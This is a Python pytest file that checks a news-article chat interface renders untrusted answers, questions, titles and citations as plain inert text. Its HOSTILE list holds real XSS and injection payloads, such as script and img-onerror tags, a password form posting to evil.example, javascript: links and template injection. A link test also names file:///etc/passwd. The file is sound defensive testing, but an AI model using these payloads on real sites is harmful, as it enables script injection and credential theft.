"""What the window shows of untrusted words."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from rag.language.visible import quoted
from rag.reasons import Reason
from rag.schema import Answer, Article, ArticleInfo, Citation, Passage, Sentence, Status, Timings
from ui import strings
from ui.window.chat import render, sources
from ui.window.conversation.types import Exchange

ARTICLE = ArticleInfo(
    id="a1f0",
    title="Night ferry returns",
    source="https://news.example/ferry",
    publisher="The Courier",
    published=date(2025, 4, 3),
    language="en",
    digest="0123456789abcdef",
)
CITATION = Citation(2, ARTICLE, 10, 31, "The ferry is back.")
CHIP = "#cite-a1f0-01234567-10-31-2"

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src="http://evil.example/beacon.png" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=9></svg>",
    "<style>body{background:url(http://evil.example/)}</style>",
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
    '<form action="http://evil.example"><input name=password></form>',
    '<iframe src="http://evil.example"></iframe>',
    '<a href="javascript:alert(1)">go</a>',
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "<!-- comment --> <![CDATA[ data ]]> <?php echo 1 ?>",
    "![beacon](http://evil.example/b.png)",
    "![beacon][1]\n\n[1]: http://evil.example/b.png",
    "[click](http://evil.example)",
    "[click](javascript:alert(1))",
    "[click](#cite-a1f0-01234567-0-5-1)",
    "<http://evil.example> and <me@evil.example>",
    "http://evil.example/x?y=1 www.evil.example me@evil.example",
    '```mermaid\ngraph TD; A-->B\nclick A href "http://evil.example"\n```',
    "~~~html\n<b>x</b>\n~~~",
    "`code` ``<img src=x>`` \\`<img src=x>\\`",
    "    indented <b>code</b>",
    "# heading\n## another\n\nsetext\n===",
    "- list\n* list\n+ list\n1. one\n2) two\n> quote\n\n---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** __bold__ *it* _it_ ~~gone~~",
    "${window.__xss=1} {{constructor.constructor('alert(1)')()}} #{x} <%= x %>",
    "$$\\href{http://evil.example}{x}$$ \\(x\\) \\[y\\] $a$",
    "&lt;img src=x&gt; &#60;b&#62; &amp;lt; &NewLine;",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "\\[x\\](http://evil.example) \\<b\\>",
    "<b>unclosed <i",
    "</span></p></div><h1>out",
    "[99] [1][2] [^1]\n\n[^1]: footnote",
    "line  \nbreak\\\nbreak",
]


class Page(HTMLParser):
    """The tags, the attributes and the words of rendered Markdown, and apart its buttons."""

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.buttons: list[str | None] = []
        self.words = ""
        self._in_acts = False
        parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
        self.feed(parser.render(markdown))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if ("class", "acts") in attrs:
            self._in_acts = True
        if not self._in_acts:
            self.tags.append(tag)
            self.attributes += attrs
        elif tag == "button":
            self.buttons.append(dict(attrs)["value"])

    def handle_endtag(self, tag: str) -> None:
        if tag == "div":
            self._in_acts = False

    def handle_data(self, data: str) -> None:
        if not self._in_acts:
            self.words += data


def shown(answer: Answer, **exchange: object) -> str:
    given = {"state": "done", **exchange}
    return render.reply(Exchange("?", answer, **given), 0)  # type: ignore[arg-type]


def answered(text: str, *citations: Citation, **sentence: object) -> Answer:
    one = Sentence(text, citations, **{"support": "verified", **sentence})  # type: ignore[arg-type]
    return Answer("?", (one,), status="answered")


def words(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_answer_is_shown_as_the_words_it_is(payload: str) -> None:
    page = Page(shown(answered(payload)))
    assert page.tags == ["p"]
    assert words(page.words) == words(payload)


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_question_is_shown_as_the_words_it_is(payload: str) -> None:
    page = Page(render.messages([Exchange(payload)])[0]["content"])
    assert set(page.tags) <= {"p", "br"}
    assert words(page.words).replace(" ", "") == words(payload).replace(" ", "")


def test_that_no_model_reads_a_language_is_told_in_the_readers_own() -> None:
    answer = Answer("Кто?", (Sentence("…"),), status="hedged", unread="ru")
    assert "Ibid's models do not read Russian" in words(Page(shown(answer)).words)
    with strings.speaking("de"):
        assert "Ibids Modelle lesen kein Russisch" in words(Page(shown(answer)).words)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_titles_reasons_and_notices_add_no_markup(payload: str) -> None:
    article = replace(ARTICLE, title=payload, publisher=payload)
    cited = replace(CITATION, article=article, quote=payload)
    for told in (
        Sentence("Back.", (cited,), "partial", Reason("other", (payload,))),
        Sentence("Back.", (cited,), "unsupported", Reason("other", (payload,))),
        Sentence(payload, (cited,), "verified", is_quote=True, lead="source"),
    ):
        answer = Answer(
            "?", (told,), (), (cited,), "answered", payload, Timings(total_ms=1), payload, payload
        )
        page = Page(shown(answer, state="failed", line=payload))
        assert set(page.tags) <= {
            "p", "a", "span", "blockquote", "br", "div", "details", "summary", "dl", "dt", "dd",
        }  # fmt: skip
        assert {name for name, _ in page.attributes} <= {"href", "title", "class", "tabindex"}
        hrefs = [value for name, value in page.attributes if name == "href"]
        assert hrefs == [CHIP, "#sources-0"]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_banners_are_words(payload: str) -> None:
    page = Page(render.banner(payload, error=True))
    assert page.tags == ["div"]
    assert words(page.words) == words(payload)


@pytest.mark.parametrize(
    "unseen", [*"\u202e\u202d\u2066\u2069\ufeff\x00\x1b\x85\u2060", "\U000e0041"]
)
def test_unseen_and_direction_changing_characters_are_dropped(unseen: str) -> None:
    assert "".join(render.inert(f"ab{unseen}cd").split()) == "abcd"


def test_half_a_surrogate_pair_cannot_break_the_page() -> None:
    assert render.inert("a\ud83d").encode() == b"a"


def test_letters_of_all_scripts_and_joined_emoji_stay() -> None:
    text = "Füße 東京 می\u200cخواهم 👩\u200d🚀"
    assert render.inert(text) == text


def test_a_sentence_carries_a_chip_for_each_citation() -> None:
    second = replace(CITATION, number=5, start=40, end=50)
    page = Page(shown(answered("Back.", CITATION, second)))
    hrefs = [value for name, value in page.attributes if name == "href"]
    assert hrefs == [CHIP, "#cite-a1f0-01234567-40-50-5"]
    assert page.words.strip() == "Back.25"


def test_numbers_in_brackets_never_become_chips() -> None:
    assert Page(shown(answered("As [1] and [2] say.", CITATION))).tags == ["p", "a"]


@pytest.mark.parametrize(
    "malformed",
    [
        replace(CITATION, article=replace(ARTICLE, id="a/../b")),
        replace(CITATION, article=replace(ARTICLE, id="")),
        replace(CITATION, article=replace(ARTICLE, id="x" * 129)),
        replace(CITATION, article=replace(ARTICLE, id='a" onclick="')),
        replace(CITATION, article=replace(ARTICLE, digest="")),
        replace(CITATION, article=replace(ARTICLE, digest="abc)def)")),
        replace(CITATION, start=-1),
        replace(CITATION, start=31),
        replace(CITATION, number=0),
    ],
)
def test_a_malformed_citation_gets_no_chip_and_no_link(malformed: Citation) -> None:
    assert Page(shown(answered("Back.", malformed))).tags == ["p"]
    lists = sources.source_lists([Exchange("?", Answer("?", evidence=(malformed,)))])
    assert lists[0]["cards"][0]["href"] == ""


@pytest.mark.parametrize("article_id", [None, 7, ["a"], "", "../x", "a b", "a\n", "é", "x" * 129])
def test_what_cannot_be_an_article_id_is_turned_away(article_id: object) -> None:
    assert not sources.valid_article_id(article_id)


def test_an_article_id_may_hold_hyphens() -> None:
    assert sources.valid_article_id("a-b-1")


def test_a_verified_sentence_bears_no_mark() -> None:
    assert "doubt" not in shown(answered("Back.", CITATION))


def test_a_partly_supported_sentence_bears_a_mark_with_its_reason() -> None:
    page = Page(
        shown(
            answered(
                "Back.", CITATION, support="partial", because=Reason("other", ("the date differs",))
            )
        )
    )
    assert ("title", f"{strings.PARTIAL}: the date differs") in page.attributes
    assert "≈" in page.words


def test_an_unsupported_sentence_bears_a_warning_in_words_with_its_reason() -> None:
    page = Page(shown(answered("Back.", support="unsupported", because=Reason("uncited"))))
    assert ("title", f"{strings.UNSUPPORTED}: it cites no source") in page.attributes
    assert strings.UNSUPPORTED_MARK in page.words
    assert ("class", "unsupported") in page.attributes


def test_a_mark_without_a_reason_still_says_what_it_means() -> None:
    page = Page(shown(answered("Back.", support="unsupported")))
    assert ("title", strings.UNSUPPORTED) in page.attributes


def test_a_sentence_not_checked_yet_bears_no_mark() -> None:
    for support in ("unsupported", "partial"):
        told = (Sentence("Back.", support=support),)
        assert "doubt" not in shown(Answer("?", told), state="writing")


@pytest.mark.parametrize("status", ["answered", "quoted", "pending"])
def test_a_quotation_is_shown_as_one_with_its_origin_whatever_the_status(status: Status) -> None:
    told = Sentence("The ferry is back.", (CITATION,), "verified", is_quote=True)
    page = Page(shown(Answer("?", (told,), status=status)))
    assert page.tags[0] == "blockquote"
    assert "Night ferry returns · says: “The Courier”, at news.example · 3 April 2025" in page.words
    assert ("href", CHIP) in page.attributes


def test_prose_runs_on_around_a_quotation_and_its_lead_stands_before_it() -> None:
    answer = Answer(
        "?",
        (
            Sentence("One.", (CITATION,), "verified"),
            Sentence("Two.", (CITATION,), "verified"),
            Sentence("Three.", (CITATION,), "verified", is_quote=True, lead="differs"),
            Sentence("Four.", (CITATION,), "verified"),
        ),
        status="answered",
    )
    page = Page(shown(answer))
    assert [tag for tag in page.tags if tag in ("p", "blockquote")] == [
        "p", "p", "blockquote", "p", "p",
    ]  # fmt: skip
    assert words(page.words).startswith(
        "One.2 Two.2 The article signed “The Courier”, at news.example, 3 April 2025, differs: "
        "Three.2 Night ferry"
    )
    assert words(page.words).endswith("Four.2")


def test_the_question_as_understood_stands_above_the_answer() -> None:
    answer = replace(answered("Back."), standalone="When is the ferry back?")
    assert words(Page(shown(answer)).words) == "Understood as: When is the ferry back? Back."
    assert "Understood" not in Page(shown(answered("Back."))).words


def test_a_question_is_understood_before_its_sources_are_found() -> None:
    page = Page(shown(Answer("?", standalone="When is the ferry back?"), state="writing"))
    assert "When is the ferry back?" in page.words
    assert strings.SEARCHING in page.words


def test_a_refusal_is_plain_text() -> None:
    answer = Answer("?", (Sentence("Your articles do not say."),), status="refused")
    page = Page(shown(answer))
    assert (page.tags, page.words.strip()) == (["p"], "Your articles do not say.")


def test_a_question_shows_at_once_that_articles_are_searched() -> None:
    assert strings.SEARCHING in Page(render.reply(Exchange("?"), 0)).words


def test_while_loading_the_answer_says_what_is_loaded() -> None:
    line = "Loading the embedding model…"
    assert line in Page(render.reply(Exchange("?", line=line), 0)).words


def test_the_sources_are_there_before_the_first_word() -> None:
    page = Page(shown(Answer("?", evidence=(CITATION,)), state="writing"))
    assert strings.reading(1) in page.words
    assert ("href", "#sources-0") in page.attributes


def test_a_stopped_answer_keeps_its_words_and_says_so() -> None:
    page = Page(shown(answered("Back."), state="stopped"))
    assert "Back." in page.words and strings.STOPPED in page.words


def test_the_time_taken_is_shown() -> None:
    answer = replace(answered("Back."), timings=Timings(total_ms=8230))
    assert "8.2 s" in Page(shown(answer)).words


def test_the_details_tell_the_model_where_the_time_went_and_what_was_put_right() -> None:
    answer = Answer(
        "?",
        (
            Sentence("One.", (CITATION,), "verified", is_repaired=True),
            Sentence("Two.", (CITATION,), "verified"),
        ),
        status="answered",
        model="the-model",
        timings=Timings(12, 340, 5600, 7890, 8230),
    )
    page = Page(shown(answer))
    assert page.tags.index("details") < page.tags.index("summary") < page.tags.index("dl")
    told = page.words
    for part in (
        f"{strings.MODEL}the-model", "Question understoodafter 0.01 s", "Sources foundafter 0.34 s",
        "First wordafter 5.6 s", "Last wordafter 7.9 s", "Checkedafter 8.2 s",
        f"{strings.REPAIRED}1",
    ):  # fmt: skip
        assert part in told


def test_the_details_leave_out_what_was_not_reached_or_not_needed() -> None:
    answer = Answer("?", (Sentence("Back."),), status="quoted", timings=Timings(total_ms=900))
    told = Page(shown(answer)).words
    assert strings.NO_MODEL in told
    assert strings.POINTS["first_token_ms"] not in told
    assert strings.REPAIRED not in told


def test_an_answer_that_is_not_finished_has_no_details() -> None:
    answer = Answer("?", evidence=(CITATION,), timings=Timings(sources_ms=5))
    assert "details" not in Page(shown(answer, state="stopped")).tags


def test_sources_that_the_answer_left_out_are_told_apart() -> None:
    other = replace(CITATION, number=3)
    answer = replace(answered("Back.", CITATION), evidence=(CITATION, other))
    cards = sources.source_lists([Exchange("?", answer, "done")])[0]["cards"]
    assert [card["left_out"] for card in cards] == [False, True]


def test_passages_stand_in_where_there_is_no_evidence() -> None:
    passage = Passage(ARTICLE, 10, 31, "The ferry is back.", 0.5)
    listed = sources.source_lists([Exchange("?", Answer("?", passages=(passage,)))])
    assert listed[0]["cards"][0]["href"] == "#cite-a1f0-01234567-10-31-1"


def test_after_a_refusal_the_list_does_not_call_itself_sources() -> None:
    answer = Answer("?", evidence=(CITATION,), status="refused")
    listed = sources.source_lists([Exchange("?", answer, "done")])[0]
    assert (listed["heading"], listed["note"]) == (strings.NEAREST, strings.NEAREST_NOTE)


@pytest.mark.parametrize(
    ("source", "link"),
    [
        ("https://news.example/a?b=1&c=2", "https://news.example/a?b=1&c=2"),
        ("http://news.example", "http://news.example"),
        ("javascript:alert(1)", ""),
        ("data:text/html,<script>", ""),
        ("file:///etc/passwd", ""),
        ("notes/today.md", ""),
        ("https://", ""),
        ("https://[bad", ""),
    ],
)
def test_only_a_web_address_becomes_a_link(source: str, link: str) -> None:
    page = sources.article_page(_article("text", source=source))
    assert page["link"] == link


def test_where_an_article_says_it_is_from_is_told_apart_from_where_it_was_had() -> None:
    article = replace(_article("text"), link="https://reuters.example/a")
    page = sources.article_page(article)
    assert (page["source"], page["link"]) == ("notes.md", "")
    assert page["stated"] == {
        "label": strings.STATED, "source": article.link, "link": article.link,
    }  # fmt: skip
    assert sources.article_page(replace(article, by_hand=("link",)))["link"] == article.link
    page = sources.article_page(replace(article, source="https://news.example/a"))
    assert (page["link"], page["stated"]["source"]) == ("https://news.example/a", article.link)
    assert sources.article_page(_article("text"))["stated"] is None


def test_an_article_is_sent_exactly_as_stored() -> None:
    text = "a\u202eb\r\n <b>& 🛏️\x0c"
    assert sources.article_page(_article(text))["text"] == text


def test_the_masthead_tells_the_size_of_the_library() -> None:
    assert "3 articles" in Page(render.masthead(3)).words
    assert "1 article" in Page(render.masthead(1)).words
    assert "article" not in Page(render.masthead(None)).words


def test_rendering_needs_no_gradio() -> None:
    modules = "ui.window.chat.render, ui.window.conversation.types"
    code = f"import sys, {modules}; sys.exit('gradio' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], timeout=60).returncode == 0


def _article(text: str, source: str = "notes.md") -> Article:
    return Article("a1f0", "Ferry", source, None, None, None, "0123456789abcdef", text)


def own(text: str, article: ArticleInfo | None = None, because: Reason | None = None) -> Sentence:
    return Sentence(text, (), "verified", because or Reason("own"), article=article)


def test_an_article_that_ibid_tells_of_opens_at_its_title_and_several_are_a_list() -> None:
    told = [own("There are 2 articles."), *[own(f"“{ARTICLE.title}” · 2025", ARTICLE)] * 2]
    page = Page(shown(Answer("?", tuple(told), status="own")))
    hrefs = [value for name, value in page.attributes if name == "href"]
    assert hrefs == ["#article-a1f0"] * 2
    assert (page.tags.count("ul"), page.tags.count("li")) == (1, 2)
    assert "blockquote" not in page.tags
    alone = Page(shown(Answer("?", (own(f"“{ARTICLE.title}” is old.", ARTICLE),), status="own")))
    assert "li" not in alone.tags and "a" in alone.tags


@pytest.mark.parametrize("payload", HOSTILE)
def test_the_title_of_a_hostile_article_is_shown_as_the_words_it_is(payload: str) -> None:
    hostile = replace(ARTICLE, title=payload, publisher=payload)
    title = quoted(hostile.title)[1:-1]
    told = (own("There is 1 article."), own(f"“{title}” · {title}", hostile))
    page = Page(shown(Answer("?", told, status="own")))
    assert set(page.tags) <= {"p", "ul", "li", "a"}
    assert {value for name, value in page.attributes} <= {"#article-a1f0"}
    assert words(page.words).endswith(words(f"“{title}” · {title}"))


def test_what_ibid_says_of_its_answer_is_in_the_language_spoken() -> None:
    reasons = (Reason("read", ("5",)), Reason("unanswered", ("Who won?",)), Reason("no more"))
    told = tuple(own(because.english, because=because) for because in reasons)
    english = Page(shown(Answer("?", told, status="quoted")))
    assert "Read from the 5 passages found" in english.words
    with strings.speaking("de"):
        german = Page(shown(Answer("?", told, status="quoted")))
    assert "Gelesen aus den 5 gefundenen Textstellen" in german.words
    assert "sagen nicht: „Who won?“" in german.words
    assert "doubt" not in str(german.attributes)


def test_an_answer_of_ibids_own_has_no_sources_and_no_model() -> None:
    answer = Answer("?", (own("Hello."),), status="own", timings=Timings(total_ms=20))
    page = Page(shown(answer))
    assert strings.MODEL not in page.words and "#sources-0" not in str(page.attributes)
    listed = sources.source_lists([Exchange("?", answer, state="done")])
    assert listed[0]["cards"] == []
    assert listed[0]["told"] == "Hello."
